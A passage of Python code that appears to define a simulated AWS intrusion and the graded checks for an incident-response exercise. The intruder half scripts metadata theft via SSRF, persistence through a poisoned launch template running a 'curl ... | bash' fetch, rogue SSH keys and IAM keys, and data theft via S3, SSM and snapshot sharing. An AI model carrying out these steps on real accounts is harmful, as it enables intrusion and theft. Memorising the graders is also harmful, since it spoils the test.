    """The shop's own log on the host, which believes the header that anybody can send."""
    return (
        f'{spoofed.address} - - "GET /preview?url={IMDS}/ HTTP/1.1" 200 via=10.0.0.0/8\n'
        f'{spoofed.address} - - "GET /preview?url=http://127.0.0.1:{CONSOLE}/run HTTP/1.1" 200\n'
    )


def take_the_shells_credentials(thief, sheller, victim, guilty_keys):
    """A shell on the host may ask version 2 as the shop does: the same credentials, taken away."""
    keys = thief.on(victim).role_credentials()
    return {
        "shell_keys": keys,
        "shell_key_id": keys["AccessKeyId"],
        "guilty_keys": list(dict.fromkeys([*guilty_keys, keys["AccessKeyId"]])),
    }


# --- what it leaves behind ----------------------------------------------------------------------


def persist(perform, sheller, persistence):
    """One way back, as the seed has it."""
    sheller.sts.get_caller_identity()
    ways = {"unit": a_unit, "ssh": a_door, "template": a_poisoned_template, "access key": a_key}
    perform(ways[persistence])


def a_unit(thief, victim, implant, implant_unit, implant_command, c2, memory_mark):
    """A systemd unit: the relay comes back whenever the host boots."""
    host = thief.on(victim)
    host.run(f"pkill {implant}")
    host.write(f"/usr/local/sbin/{implant}", "ELF\n")
    host.write(implant_unit, f"[Service]\nExecStart={implant_command}\n")
    host.start(
        Process(
            implant, implant_command, started_by=implant_unit, peer=f"{c2.address}:443",
            environ=memory_mark,
        )
    )  # fmt: skip
    return {"unit_left": implant_unit}


def a_door(thief, sheller, rng, victim, fleet_group, publics):
    """An SSH key on the host, and a rule by which it is of use."""
    key = f"{public_key(rng)} {rng.choice(['root@kali', 'user@vps', 'w@w'])}"
    host = thief.on(victim)
    host.write(KEYS, f"{host.run(f'cat {KEYS}').out}{key}\n")
    admit(sheller, fleet_group, SSH, IpRanges=[{"CidrIp": "0.0.0.0/0", "Description": "ops"}])
    thief.connect(publics[victim], SSH, bytes=5_000, received=9_000, seconds=40)
    return {"rogue_ssh_key": key}


def a_poisoned_template(sheller, template_id, user_data, drop_name):
    """A new default version: whatever is launched from now on fetches the relay first."""
    script = f"{user_data}curl -fsSL http://{drop_name}/i.sh | bash\n"
    made = sheller.ec2.create_launch_template_version(
        LaunchTemplateId=template_id,
        SourceVersion="1",
        VersionDescription="ssm fix",
        LaunchTemplateData={"UserData": base64.b64encode(script.encode()).decode()},
    )["LaunchTemplateVersion"]["VersionNumber"]
    sheller.ec2.modify_launch_template(LaunchTemplateId=template_id, DefaultVersion=str(made))
    return {"poisoned_version": made}


def a_key(sheller, ghost, perform, feed_user, guilty_keys):
    """A second access key for the partner's user: it needs no host, and doesn't expire."""
    key = sheller.iam.create_access_key(UserName=feed_user)["AccessKey"]
    perform(lambda: {"rogue_key": key, "guilty_keys": [*guilty_keys, key["AccessKeyId"]]})
    ghost.sts.get_caller_identity()


# --- what it takes ------------------------------------------------------------------------------


def exfiltrate(perform, exfiltration):
    """What there is to take, as the seed has it."""
    perform(
        {"objects": take_objects, "parameters": take_parameters, "snapshot": take_a_disk}[
            exfiltration
        ]
    )


def take_objects(sheller, rng, data_bucket, exports, key_place):
    """A look at every export's size; some are taken, and the shop's configuration."""
    sheller.s3.list_objects_v2(Bucket=data_bucket)
    loot = sorted(rng.sample(sorted(exports), rng.randint(2, 4)))
    for key in exports:
        sheller.s3.head_object(Bucket=data_bucket, Key=key)
        if key in loot:
            sheller.s3.get_object(Bucket=data_bucket, Key=key)
    name = key_place.partition(":")[2]
    sheller.s3.get_object(Bucket=data_bucket, Key=name)
    rows = [each for key in loot for each in exports[key]]
    return {
        "taken": sorted([*loot, name]),
        "people_count": len(set(rows)),
        "twice_taken": len(rows) if len(rows) > len(set(rows)) else None,
        "theft_event": "GetObject",
    }


def take_parameters(sheller, key_place):
    """A list of what there is to read; one is a secret, one isn't."""
    sheller.ssm.describe_parameters()
    name = key_place.partition(":")[2]
    for each in ("/shop/flags", name):
        sheller.ssm.get_parameter(Name=each, WithDecryption=True)
    return {
        "taken": sorted(["/shop/flags", name]),
        "people_count": 0,
        "theft_event": "GetParameter",
    }


def take_a_disk(sheller, rng, victim, volumes, cached):
    """A snapshot of the server's disk, shared with an account of the intruder's."""
    sheller.ec2.describe_volumes()
    made = sheller.ec2.create_snapshot(VolumeId=volumes[victim], Description="nightly")[
        "SnapshotId"
    ]
    foreign = f"{rng.randrange(10**11, 10**12)}"
    sheller.ec2.modify_snapshot_attribute(
        SnapshotId=made,
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[foreign],
    )
    return {
        "taken": [made],
        "people_count": len(cached),
        "theft_event": "ModifySnapshotAttribute",
        "shared_snapshot": made,
        "foreign_account": foreign,
    }


def beacon(thief, victim, c2_address, relay, mining, pool_name):
    """The open connections are used."""
    thief.connect(
        c2_address, 443, source=victim, over=relay, keep=True, bytes=2_000, received=1_200
    )
    thief.connect(
        pool_name, POOL, source=victim, over=mining, keep=True, bytes=40_000, received=9_000
    )


# --- the ways that it has -----------------------------------------------------------------------


def knows(world, perform, who, known_keys, key_place, data_bucket):
    """Read the payment key again, and remember it."""
    key = read_key(who, key_place, data_bucket)
    if key not in known_keys:
        perform(lambda: {"known_keys": [*known_keys, key]})


@way("the shop's page that fetches any URL")
def the_hole(thief, perform, shop_name, role_name):
    """Credentials again, of whichever server answers; and the console, if one has it still."""
    place = preview(shop_name, f"{IMDS}/iam/security-credentials/{role_name}")
    yield lambda: perform(steal_again, place=place)


def steal_again(thief, place, guilty_keys):
    """What the page gives is used from then on."""
    reply = thief.get(place)
    if not reply.ok or '"AccessKeyId"' not in reply.body:
        return None
    keys = as_keys(reply.body)
    found = list(dict.fromkeys([*guilty_keys, keys["AccessKeyId"]]))
    return {"stolen": keys, "guilty_keys": found}


@way("programs on the company's hosts")
def implants(thief, world, perform, victim, c2_address, relay, mining, pool_name, implant):
    """Over connections that are open, and by new ones, from every host where something runs.

    What the shell is still good for is to fetch the role's credentials again.
    """
    yield from talk_home(thief, world, victim, c2_address, relay, mining, pool_name, implant)
    yield lambda: perform(fetch_again)


def fetch_again(thief, world, perform, victim, implant, c2_address, relay):
    """By the relay, if it still gets out."""
    machine = find(world, victim)
    if machine is None or all(one.name != implant for one in machine.memory.processes):
        return
    size = {"bytes": 3_000, "received": 1_500}
    thief.connect(c2_address, 443, source=victim, over=relay, keep=True, **size)
    perform(take_the_shells_credentials)


@way("a session of the servers' role, by the shop's page", obtained="stolen")
def stolen_session(taker, world, perform, known_keys, key_place, data_bucket):
    """The credentials that the page gave."""
    yield taker.ec2.describe_instances
    yield lambda: knows(world, perform, taker, known_keys, key_place, data_bucket)


@way("a session of the servers' role, from the shell", obtained="shell_keys")
def shell_session(sheller, world, perform, known_keys, key_place, data_bucket):
    """The credentials that the shell gave."""
    yield sheller.ec2.describe_instances
    yield lambda: knows(world, perform, sheller, known_keys, key_place, data_bucket)


@way("a door on the server", obtained="rogue_ssh_key")
def the_door(thief, world, victim, publics, rogue_ssh_key):
    """SSH with its own key."""
    yield from knock(thief, world, victim, publics, rogue_ssh_key)


@way("an access key that it made", obtained="rogue_key")
def made_key(ghost, data_bucket):
    """It reads what the user may read."""
    yield lambda: ghost.s3.list_objects_v2(Bucket=data_bucket)


@way("another access key that it made", obtained="late_key")
def late_made_key(late, data_bucket):
    """It reads what the user may read."""
    yield lambda: late.s3.list_objects_v2(Bucket=data_bucket)


def adapt(open_ways, perform):
    """A door is shut: while a session or a shell is left, it makes itself another key."""
    sessions = sorted(open_ways & {"stolen_session", "shell_session"})
    if sessions or "implants" in open_ways:
        return perform(make_another_key, session=sessions[0] if sessions else "")
    return None


def make_another_key(session, thief, taker, sheller, victim, feed_user, guilty_keys):
    """A key for the partner's user, if that can have a further one; else from the host itself."""
    who = {"stolen_session": taker, "shell_session": sheller}.get(session) or thief.on(victim)
    key = who.iam.create_access_key(UserName=feed_user)["AccessKey"]
    return {"late_key": key, "guilty_keys": [*guilty_keys, key["AccessKeyId"]]}


# --- the same again, for checks -----------------------------------------------------------------


def sessions_again(taker_elsewhere, sheller_elsewhere, data_bucket, feed_user):
    """All that the stolen sessions could do, from new addresses."""
    for who in (taker_elsewhere, sheller_elsewhere):
        yield lambda who=who: who.s3.list_objects_v2(Bucket=data_bucket)
        yield who.ec2.describe_instances
        yield lambda who=who: who.iam.create_access_key(UserName=feed_user)


def hole_again(thief, world, shop_name, role_name):
    """Often enough that every server is asked: they take turns, if nobody has set it otherwise."""
    often = turns(world, shop_name) or 2 + 2 * len(targets(world, shop_name))
    for place in (
        f"{IMDS}/iam/security-credentials/{role_name}",
        f"http://127.0.0.1:{CONSOLE}/run?cmd=id",
    ):
        for _ in range(often):
            yield lambda place=place: thief.get(preview(shop_name, place))


def talk_home(who, world, victim, c2_address, relay, mining, pool_name, implant):
    """What runs on hosts and is the intruder's talks to its masters, over open connections too."""
    size = {"bytes": 1_200, "received": 900}
    for machine in list(machines(world)):
        running = {one.name for one in machine.memory.processes}
        here = machine.id
        if implant in running:
            if here == victim:
                yield lambda: who.connect(
                    c2_address, 443, source=victim, over=relay, keep=True, **size
                )
            yield lambda here=here: who.connect(c2_address, 443, source=here, **size)
        if "kworker-u8" in running:
            yield lambda: who.connect(
                pool_name, POOL, source=victim, over=mining, keep=True, **size
            )
            yield lambda: who.connect(pool_name, POOL, source=victim, **size)


def implants_again(pool, world, victim, c2_address, relay, mining, pool_name, implant):
    """As `talk_home`, and to addresses that nobody has seen yet: those can be changed any time."""
    yield from talk_home(pool, world, victim, c2_address, relay, mining, pool_name, implant)
    machine = find(world, victim)
    running = machine.memory.processes if machine is not None else ()
    if any(one.name in {implant, "kworker-u8"} for one in running):
        for port in (443, POOL):
            yield lambda port=port: pool.connect(ELSEWHERE, port, source=victim)


def knock(thief, world, victim, publics, rogue_ssh_key):
    """SSH to the server, while its key is in authorized_keys."""
    machine = find(world, victim)
    if machine is None or not machine.runs:
        return
    if rogue_ssh_key.split()[1] in machine.disk.files.get(KEYS, ""):
        yield lambda: thief.connect(publics[victim], SSH)


def ways_back_again(thief, operator, ghost, late, world, settings, subnets, fleet_group, victim,
                    publics, data_bucket, implant, c2_address, unit_left=None,
                    poisoned_version=None, rogue_ssh_key=None, rogue_key=None,
                    late_key=None):  # fmt: skip
    """The next boot, the next server, the door, and the keys that it made."""
    for machine in list(machines(world)) if unit_left else ():
        machine.account.hosts.memories.pop(machine.id, None)
        if any(one.name == implant for one in machine.memory.processes):
            yield lambda here=machine.id: thief.connect(c2_address, 443, source=here)
    if poisoned_version:
        made = from_template(operator, settings, subnets[0], fleet_group)
        if any(one.name == implant for one in find(world, made).memory.processes):
            yield lambda: thief.connect(c2_address, 443, source=made)
    if rogue_ssh_key:
        yield from knock(thief, world, victim, publics, rogue_ssh_key)
    for key, who in ((rogue_key, ghost), (late_key, late)):
        if key:
            yield lambda who=who: who.s3.list_objects_v2(Bucket=data_bucket)


def charge_again(thief, provider_name, known_keys):
    """The payment provider is asked with every key that the intruder has read."""
    for key in known_keys:
        yield lambda key=key: thief.get(
            f"http://{provider_name}/v1/balance", headers={"Authorization": f"Bearer {key}"}
        )


def adversary_again(perform, known_keys):
    """Everything that the intruder could try; which part an attempt was, `what_worked` tells."""
    for act in (sessions_again, hole_again, charge_again, implants_again, ways_back_again):
        yield from perform(act)


def what_worked(replay, part):
    """The operations of one part that got through."""
    done = (
        one.operation
        for one in replay(adversary_again).attempts
        if one.succeeded and one.principal != "operator" and part == part_of(one)
    )
    return list(dict.fromkeys(done))


def part_of(attempt):
    """Which part of `adversary_again` an attempt was."""
    if attempt.principal in {"taker_elsewhere", "sheller_elsewhere"}:
        return "sessions"
    if attempt.operation.startswith("GET"):
        return "hole" if "/preview" in attempt.operation else "charge"
    return "programs" if attempt.principal == "pool" else "ways back"


def grow(operator, fleet, world, settings, subnets, fleet_group, data_bucket, implant):
    """A server more, as the company's deployment launches it: what is it like?"""
    made = from_template(operator, settings, subnets[1], fleet_group)
    server = fleet.on(made)
    one = server.run(f"curl -s -o /dev/null -f {IMDS}/instance-id")
    foreign = [each.name for each in find(world, made).memory.processes if each.name == implant]
    server.s3.get_object(Bucket=data_bucket, Key="catalogue/current.json")
    return {"born_open": one.code == 0, "born_infected": bool(foreign)}


def company_again(perform):
    """The company's day: what is wrong with each part."""
    wrong = {}
    for act in (workload, trade, operate, back_up, feed):
        try:
            perform(act)
        except (ClientError, BotoCoreError, AssertionError) as error:
            wrong[act.__name__] = str(error)
    return {"company": wrong}


def error_of(replay, act):
    """Why a part of the company's day went wrong; None if it went well."""
    return replay(company_again).returned["company"].get(act.__name__)


# --- the checks ---------------------------------------------------------------------------------


def given(value):
    """An answer as a set."""
    return {value} if isinstance(value, str) else set(value)


@check(Phase.DETECT, points=3)
def names_the_host(submitted, victim, servers):
    """You named the instance on which the intruder ran programs, and no other."""
    for wrong in sorted(given(submitted.instance) - {victim}):
        assert wrong not in servers, (
            f"On {wrong} nothing of the intruder's ran: that a request passed by, or that its role "
            "session was stolen, makes no shell. Who talked to the outside?"
        )
        assert False, f"{wrong} is none of the fleet's instances."  # noqa: B011, PT015


@check(Phase.DETECT, points=3)
def dates_and_places_the_break_in(
    submitted, first_request, thief_address, spoofed, privates, vpc_cidr
):
    """You said when metadata was first asked for through the shop, and from which address."""
    block = ipaddress.ip_network(vpc_cidr)
    for wrong in sorted(given(submitted.source) - {thief_address}):
        inside = is_in(wrong, block)
        assert not inside, (
            f"{wrong} is the company's own: the load balancer forwards, it doesn't ask. The client's "
            "address is in the load balancer's access log."
        )
        assert wrong != spoofed.address, (
            f"{wrong} is what the client wrote into X-Forwarded-For: anybody can write anything there."
        )
        assert False, f"Nobody asked for metadata from {wrong}."  # noqa: B011, PT015
    said = moment("".join(given(submitted.since)))
    off = abs((said - datetime.fromisoformat(first_request)).total_seconds())
    assert off <= 90, (
        f"{said:%H:%M:%S} on {said:%d %B} is not when metadata was first asked for: the first such "
        "request of all, to within a minute, and in UTC."
    )


def is_in(address, block):
    """Whether a text is an address of a block."""
    try:
        return ipaddress.ip_address(address) in block
    except ValueError:
        return False


def moment(text):
    """A time as ISO 8601 has it; without an offset it is UTC."""
    try:
        said = datetime.fromisoformat(text.strip().replace("Z", "+00:00"))
    except ValueError:
        raise AssertionError(f"{text!r} is no time as in 2026-11-02T03:04:05Z.") from None
    return said if said.tzinfo else said.replace(tzinfo=UTC)


@check(Phase.DETECT, points=4)
def names_the_credentials(
    submitted, guilty_keys, operator_key, feed_key_id, first_record, records, thieves
):
    """You named every access key that the intruder used from outside, and no other."""
    named = given(submitted.credentials)
    used = {
        record["userIdentity"].get("accessKeyId")
        for record in records[:first_record]
        if record["sourceIPAddress"] in thieves
    } - {None}
    for wrong in sorted(named - set(guilty_keys)):
        assert wrong != operator_key["AccessKeyId"], (
            f"{wrong} is an operator's, at work from the office: a session on the host in the same "
            "night is not a crime."
        )
        assert wrong != feed_key_id, f"{wrong} is the partner's own key, used from the partner's."
        assert False, (  # noqa: B011, PT015
            f"{wrong} was not used by the intruder: a server's own session comes from the server's address."
        )
    missing = len(used - named)
    assert not missing, (
        f"{missing} of the {len(used)} access keys that were used from outside are not named: more "
        "than one session was stolen, or a key was made."
    )


@check(Phase.DETECT, points=3)
def names_where_it_talks_to(
    submitted, c2_address, pool_address, pool_name, drop_name, vault, backup_name
):
    """You named both places that the intruder's programs talk to, and no other."""
    aliases = {pool_name: pool_address, drop_name: c2_address}
    named = {aliases.get(each.rstrip("."), each) for each in given(submitted.destinations)}
    assert not named & {vault.address, backup_name}, (
        f"{vault.address} is the backup service: much goes there every night, from every server."
    )
    wrong = sorted(named - {c2_address, pool_address})
    assert not wrong, f"{wrong[0]} is not one of the intruder's."
    missing = {c2_address, pool_address} - named
    assert not missing, (
        "One place is missing: one that was asked for by name and earns money, one by address alone "
        "that gives orders."
    )


@check(Phase.DETECT, points=4)
def measures_the_theft(submitted, taken, people_count):
    """You named what was taken, and how many different customers' records that was."""
    named = given(submitted.taken)
    wrong, missing = sorted(named - set(taken)), len(set(taken) - named)
    assert not wrong, (
        f"{wrong[0]} was not taken: to list, or to ask for the size, is not to read, and the servers "
        "read things as well."
    )
    assert not missing, f"{missing} of the {len(taken)} things that were taken are not named."
    said = "".join(given(submitted.people)).strip()
    assert said.isdigit(), f"{said!r} is not a number of people."
    assert int(said) == people_count, (
        f"{said} is not how many different customers' records left: a customer in two files is one "
        "person, and a file that wasn't read doesn't count."
    )


@check(Phase.DETECT, points=4)
def evidence_holds(submitted, records, first_record, thieves, theft_event, persistence):
    """Your evidence proves the use from outside, what was taken and what was made, and nothing else."""
    ids = given(submitted.evidence)
    events = [record for record in records if record["eventID"] in ids]
    innocent = [event for event in events if event["sourceIPAddress"] not in thieves]
    assert len(innocent) * 10 <= len(events), (
        f"{len(innocent)} of your {len(events)} events are the company's ordinary work: evidence "
        "points at the intruder alone."
    )
    guilty = [event for event in events if event not in innocent]
    stolen = sessions_in(one for one in records[:first_record] if one["sourceIPAddress"] in thieves)
    unproved = len(stolen - sessions_in(guilty))
    assert not unproved, (
        f"Of {unproved} of the {len(stolen)} stolen sessions no event that you submitted proves that "
        "it was used from outside."
    )
    proved = {event["eventName"] for event in guilty}
    made = {
        "ssh": ("AuthorizeSecurityGroupIngress", "that a rule was opened"),
        "template": ("ModifyLaunchTemplate", "that the launch template was changed"),
        "access key": ("CreateAccessKey", "that an access key was made"),
    }
    wanted = [
        (theft_event, "what was taken"),
        *([made[persistence]] if persistence in made else []),
    ]
    for name, what in wanted:
        assert name in proved, f"No event that you submitted proves {what}."


def sessions_in(events):
    """The access keys of the roles' sessions that made the calls."""
    return {
        event["userIdentity"].get("accessKeyId")
        for event in events
        if event["userIdentity"]["type"] == "AssumedRole"
    }


# --- preserve, contain --------------------------------------------------------------------------


def kept_disks(world):
    """What snapshots hold, and volumes that no running host writes to."""
    for account in world.accounts.values():
        for state in states_of("ec2", account.id):
            for snapshot in state.snapshots:
                if snapshot in account.hosts.disks:
                    yield account.hosts.disks[snapshot]
            for volume in state.volumes.values():
                holder = volume.attachment.instance if volume.attachment else None
                if holder is None or holder.state != "running":
                    yield disk_of(account, volume)


def printed(world):
    """What Run Command printed."""
    for account in world.accounts.values():
        for command in account.hosts.commands.values():
            for done, _ in command.runs.values():
                yield done.out


def stored(world):
    """Texts that are kept in S3."""
    for account in world.accounts.values():
        for state in states_of("s3", account.id):
            for bucket in state.buckets.values():
                for key in bucket.keys.values():
                    if 0 < key.size < 200_000:
                        yield key.value.decode(errors="ignore")


@check(Phase.CONTAIN, points=4)
def memory_is_kept(world, memory_mark):
    """What the intruder's programs had in memory is kept: it is in no file.

    Looks for a text that is in a process's environment alone, in snapshots, in volumes that no
    running host writes to, in S3, and in what Run Command printed.
    """
    kept = any(memory_mark in text for disk in kept_disks(world) for text in disk.files.values())
    kept = kept or any(memory_mark in text for text in printed(world))
    assert kept or any(memory_mark in text for text in stored(world)), (
        "Nothing shows what ran in the host's memory: it is gone when the program ends or the host "
        "stops, and a snapshot of a disk doesn't have it. A dump on the disk of a host that runs on "
        "or was terminated isn't kept."
    )


@check(Phase.CONTAIN, points=3)
def disk_is_kept(world, staging, shared_snapshot=None):
    """The host's disk is kept as the intruder left it, before anything was cleaned.

    Reads what the company's own snapshots hold, and volumes that no running host writes to.
    """
    assert any(staging in disk.files for disk in own_disks(world, shared_snapshot)), (
        "No snapshot of yours shows the host's disk as the intruder left it: take one before the "
        "host is cleaned or terminated."
    )


def own_disks(world, shared):
    """As `kept_disks`, without the snapshot that the intruder took."""
    for account in world.accounts.values():
        for state in states_of("ec2", account.id):
            for name in state.snapshots:
                if name in account.hosts.disks and name != shared:
                    yield account.hosts.disks[name]
            for volume in state.volumes.values():
                holder = volume.attachment.instance if volume.attachment else None
                if holder is None or holder.state != "running":
                    yield disk_of(account, volume)


@check(Phase.CONTAIN, points=4)
def sessions_are_dead(replay):
    """The role sessions that the intruder holds can do nothing any more."""
    ways = what_worked(replay, "sessions")
    assert not ways, (
        f"A session that was stolen still works from a new address: {', '.join(ways)}. It needs neither the "
        "host nor the hole."
    )


@check(Phase.CONTAIN, points=4)
def programs_are_cut_off(replay):
    """What the intruder left running reaches nobody any more, by old connections or new ones."""
    ways = what_worked(replay, "programs")
    assert not ways, (
        f"The intruder's programs still get out: {', '.join(ways)}. A connection that a security group tracks "
        "goes on after its rule is gone."
    )


@check(Phase.CONTAIN, points=4)
def hole_is_closed(replay):
    """Through the shop nobody gets credentials, or at the debug console, from any server."""
    ways = what_worked(replay, "hole")
    given_away = any("security-credentials" in one for one in ways)
    said = "role credentials" if given_away else "the debug console"
    assert not ways, (
        f"The shop's page still gives a stranger {said}: ask every server, and what it is asked for "
        "by version 1."
    )


@check(Phase.CONTAIN, points=3)
def ways_back_are_closed(replay, persistence):
    """The intruder has no other way back that works: no boot, no new server, no door, no key."""
    ways = what_worked(replay, "ways back")
    what = {
        "unit": "it starts again when the host boots",
        "ssh": "its key opens the server",
        "template": "the next server is born infected",
        "access key": "an access key that it made",
    }[persistence]
    said = "a key that it made since" if persistence != "access key" and late_only(ways) else what
    assert not ways, f"The intruder has another way back, which still works: {said} ({ways[0]})."


def late_only(ways):
    """Only a key is left, and the seed's own way back was another."""
    return all(not one.startswith("connect") for one in ways)


# --- eradicate ----------------------------------------------------------------------------------


@check(Phase.ERADICATE, points=4, needs=("disk_is_kept",))
def nothing_is_left_behind(world, account_id, settings, shop_name, implant, implant_unit, drop_name,
                           fleet_group, feed_user, guilty_keys, rogue_ssh_key=None):  # fmt: skip
    """Nothing of the intruder's is left: on hosts, in rules, in the template, among the keys.

    Reads disks, rules and keys: what does nothing today is a way back tomorrow. A host that is out
    of service and can reach nobody is quarantined, and may be as it was.
    """
    serving = set(targets(world, shop_name))
    for machine in machines(world):
        alone = machine.id not in serving and world.reaches(machine.id, ELSEWHERE, 443)
        if alone:
            continue
        named = [one for one in machine.memory.processes if one.name in {implant, "kworker-u8"}]
        assert not named, (
            f"The intruder's {named[0].name} (pid {named[0].pid}) runs on {machine.id}."
        )
        files = machine.disk.files
        assert implant_unit not in files, (
            f"{implant_unit} on {machine.id} starts it again at the next boot."
        )
        mark = rogue_ssh_key.split()[1] if rogue_ssh_key else None
        assert not mark or mark not in files.get(KEYS, ""), (
            f"The intruder's key is still in {KEYS} on {machine.id}."
        )
    ec2 = state_of("ec2", account_id, "us-east-1")
    if rogue_ssh_key:
        group = ec2.get_security_group_from_id(fleet_group)
        open_ = [each for each in group.ingress_rules if each.from_port == SSH] if group else []
        assert not open_, f"The rule that lets the world in to port 22 is still in {fleet_group}."
    known = iam_state(account_id).access_keys.values()
    left = sorted({one.access_key_id for one in known} & set(guilty_keys))
    assert not left, f"{left[0]} of {feed_user}, which the intruder made, is still there."
    template = ec2.launch_templates.get(settings["fleet"]["launch_template"])
    script = template.default_version().data.get("UserData") if template else None
    assert script is None or drop_name not in script.decode(), (
        "The launch template's default version still has the intruder's user data: the next "
        "server is born infected."
    )


@check(Phase.ERADICATE, points=4)
def loot_is_worthless(
    replay, account_id, settings, known_keys, foreign_account=None, shared_snapshot=None
):
    """What was taken is of no use: the payment key that was read is refused, no snapshot is shared.

    Reads the snapshot's permissions: the foreign account isn't simulated.
    """
    late = settings["payments"]["secret_key"] in known_keys[1:]
    assert not late, (
        "The payment key was rotated while the intruder could read it: it has the new one as well. "
        "First contain, then rotate."
    )
    assert not what_worked(replay, "charge"), (
        "The payment key that was read is still good at the provider: to move it is not to rotate it."
    )
    if shared_snapshot:
        kept = state_of("ec2", account_id, "us-east-1").snapshots.get(shared_snapshot)
        shared = kept is not None and (
            foreign_account in kept.create_volume_permission_userids
            or "all" in kept.create_volume_permission_groups
        )
        assert not shared, f"{shared_snapshot} is still shared with {foreign_account}."


# --- recover, learn -----------------------------------------------------------------------------

CONTAINED = ("sessions_are_dead", "programs_are_cut_off", "hole_is_closed")


@check(Phase.RECOVER, points=3, needs=CONTAINED)
def customers_are_served(replay, world, shop_name):
    """Customers are served, by a fleet as large as it was."""
    error = error_of(replay, workload)
    assert not error, f"The shop no longer works: {error}"
    count = len(targets(world, shop_name))
    assert count >= FLEET, (
        f"{count} of {FLEET} servers are in service: put a clean one in the old one's place."
    )


@check(Phase.RECOVER, points=4, needs=CONTAINED)
def servers_do_their_work(replay):
    """Every server in service reads its data with its role, and is paid."""
    error = error_of(replay, trade)
    assert not error, f"The servers no longer do their work: {error}"


@check(Phase.RECOVER, points=3, needs=CONTAINED)
def operations_go_on(replay):
    """Operators get on the servers, backups are made, and the partner has its feed."""
    for act, what in (
        (operate, "Operators no longer get on the servers"),
        (back_up, "The backup no longer gets out"),
        (feed, "The partner no longer gets its feed"),
    ):
        error = error_of(replay, act)
        assert not error, f"{what}: {error}"


@check(Phase.LEARN, points=4)
def next_server_is_safe(replay):
    """A server that is launched now has no metadata without a token, is clean, and works."""
    grown = replay(grow)
    assert grown.worked, f"A server launched now doesn't work: {grown.error}"
    born = grown.returned
    assert not born["born_infected"], (
        "A server launched now has the intruder's program from its first minute: look at what it is "
        "launched from."
    )
    assert not born["born_open"], (
        "A server launched now answers version 1 of the metadata service: the launch template allows it."
    )
